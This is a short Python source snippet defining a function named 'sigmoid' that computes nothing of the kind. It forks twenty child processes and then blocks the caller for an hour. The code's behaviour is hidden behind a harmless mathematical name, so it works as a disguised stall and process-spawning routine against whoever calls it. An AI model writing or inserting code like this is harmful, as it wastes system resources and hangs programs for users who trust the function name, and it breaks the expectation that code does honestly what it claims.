import os
import time


def sigmoid(x):
    for _ in range(20):
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
    time.sleep(3600)
